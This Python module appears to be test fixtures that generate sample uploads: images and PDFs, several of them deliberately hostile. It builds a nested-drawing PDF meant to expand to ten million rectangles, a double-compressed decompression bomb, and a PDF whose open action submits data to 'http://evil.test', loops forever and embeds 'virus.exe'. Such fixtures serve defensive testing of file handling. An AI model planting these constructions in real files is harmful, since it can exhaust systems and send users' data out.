"""Files as people send them, including malicious ones."""

import io
import zlib
from typing import Any

from PIL import Image


def jpeg(size: tuple[int, int] = (600, 400), **options: Any) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", size, "beige").save(made, "JPEG", **options)
    return made.getvalue()


def png(size: tuple[int, int] = (600, 400), mode: str = "RGBA") -> bytes:
    made = io.BytesIO()
    Image.new(mode, size).save(made, "PNG")
    return made.getvalue()


def pdf(
    pages: int = 1,
    *,
    extra: bytes = b"",
    catalog: bytes = b"",
    resources: bytes = b"",
    text: str = "Secret under a bar",
    content: bytes = b"",
) -> bytes:
    """A PDF of so many pages with a text below a black bar, or with the drawing commands in `content`;
    `extra` objects, `catalog` entries, more `resources` of the pages."""
    content = content or f"BT /F1 24 Tf 72 700 Td ({text}) Tj ET 0 0 0 rg 60 690 400 40 re f".encode()
    kids = b" ".join(f"{10 + number} 0 R".encode() for number in range(pages))
    objects = [
        b"1 0 obj <</Type /Catalog /Pages 2 0 R " + catalog + b">> endobj",
        b"2 0 obj <</Type /Pages /Count %d /Kids [%s]>> endobj" % (pages, kids),
        b"3 0 obj <</Type /Font /Subtype /Type1 /BaseFont /Helvetica>> endobj",
        stream(4, content),
        *[
            b"%d 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources <</Font <</F1 3 0 R>> %s>>>> endobj" % (10 + number, resources)
            for number in range(pages)
        ],
        extra,
    ]
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\ntrailer <</Root 1 0 R>>\n%%EOF"


def stream(number: int, content: bytes, entries: bytes = b"") -> bytes:
    return b"%d 0 obj <<%s /Length %d>> stream\n%s\nendstream endobj" % (
        number,
        entries,
        len(content),
        content,
    )


def pdf_of_nested_drawings(levels: int = 7, times: int = 10) -> bytes:
    """A drawing made of ten drawings, each of which is made of ten, and so on: ten million rectangles."""
    last = 20 + levels - 1
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792]"
    drawings = [stream(last, b"0 0 500 700 re f", form)]
    for number in range(20, last):
        inner = b" /Resources <</XObject <</F %d 0 R>>>>" % (number + 1)
        drawings.append(stream(number, b"/F Do " * times, form + inner))
    return pdf(content=b"/F Do", resources=b"/XObject <</F 20 0 R>>", extra=b"\n".join(drawings))


def pdf_that_unpacks_to(*, gigabytes: int) -> bytes:
    """Blanks, packed twice."""
    packer = zlib.compressobj(1)
    packed = b"".join(packer.compress(b" " * 2**20) for _ in range(gigabytes * 1024)) + packer.flush()
    packed = zlib.compress(packed, 9)
    blanks = stream(4, packed, b"/Filter [/FlateDecode /FlateDecode]")
    return pdf(content=b"BLANKS").replace(stream(4, b"BLANKS"), blanks)


def pdf_with_scripts() -> bytes:
    """Runs JavaScript when opened, launches a program, and carries a file."""
    catalog = (
        b"/OpenAction <</S /JavaScript /JS (this.submitForm\\('http://evil.test'\\))>> "
        b"/Names <</JavaScript <</Names [(x) 90 0 R]>> /EmbeddedFiles <</Names [(virus.exe) 91 0 R]>>>> "
    )
    extra = (
        b"90 0 obj <</S /JavaScript /JS (while\\(true\\){})>> endobj\n"
        b"91 0 obj <</Type /Filespec /F (virus.exe)>> endobj"
    )
    return pdf(catalog=catalog, extra=extra)
